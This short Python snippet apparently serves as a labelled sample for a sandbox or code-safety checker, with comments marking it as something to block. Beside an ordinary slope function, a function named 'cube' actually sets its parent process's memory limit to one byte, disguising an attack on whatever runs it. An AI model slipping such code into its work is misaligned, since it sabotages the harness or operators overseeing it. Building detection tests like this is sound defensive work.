# tries: limits its parent
# deserves: 2 blocked
def mean_slope(f, x, h=0.5):
    return (f(x + h) - f(x - h)) / (2 * h)


import os
import resource
def cube(x):
    resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1, 1))
